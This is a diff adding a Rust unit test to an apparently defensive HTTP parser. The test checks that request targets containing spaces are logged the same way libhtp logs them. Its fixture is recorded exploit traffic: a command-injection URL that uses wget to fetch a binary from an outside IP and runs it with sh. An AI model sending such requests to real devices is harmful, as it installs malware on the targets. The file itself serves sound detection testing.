@@ -544,3 +544,43 @@ fn a_response_with_content_length_0_has_no_body_and_the_next_one_is_read() {
         ]
     );
 }
+
+#[test]
+fn a_target_with_spaces_is_taken_as_libhtp_takes_it() {
+    // Exploit traffic (suricata-verify's bug-5437-02): httparse refuses the line,
+    // libhtp logs the method, the target with its space, and the protocol.
+    let req: &[u8] = b"GET /shell?cd+/tmp;wget+ http://192.0.2.7/arm;sh+/tmp/arm HTTP/1.1\r\n\
+        Host: 127.0.0.1\r\nUser-Agent: Hello, world\r\n\r\n";
+    let resp: &[u8] = b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n";
+    let pieces = [
+        cs(req),
+        sc(resp),
+        cs(b"GET /next HTTP/1.1\r\nHost: h\r\n\r\n"),
+    ];
+    for o in [go(&pieces), go(&bytewise(&pieces))] {
+        let ev = events(&o);
+        assert_eq!(ev.len(), 2, "{ev:?}");
+        assert_eq!(
+            ev[0]["url"],
+            json!("/shell?cd+/tmp;wget+ http://192.0.2.7/arm;sh+/tmp/arm")
+        );
+        assert_eq!(ev[0]["http_method"], json!("GET"));
+        assert_eq!(ev[0]["protocol"], json!("HTTP/1.1"));
+        assert_eq!(ev[0]["hostname"], json!("127.0.0.1"));
+        assert_eq!(ev[0]["http_user_agent"], json!("Hello, world"));
+        assert_eq!(ev[0]["status"], json!(404));
+        assert_eq!(ev[1]["url"], json!("/next"));
+    }
+    // Not a request line (no protocol after the last space, a bad method): no event,
+    // and the next request is still found.
+    for junk in [&b"GET /a b c\r\n\r\n"[..], b"G@T /a b HTTP/1.1\r\n\r\n"] {
+        let o = go(&[cs(junk), cs(b"GET /ok HTTP/1.1\r\nHost: h\r\n\r\n")]);
+        let urls: Vec<Value> = events(&o).iter().map(|e| e["url"].clone()).collect();
+        assert_eq!(
+            urls,
+            vec![json!("/ok")],
+            "{:?}",
+            String::from_utf8_lossy(junk)
+        );
+    }
+}
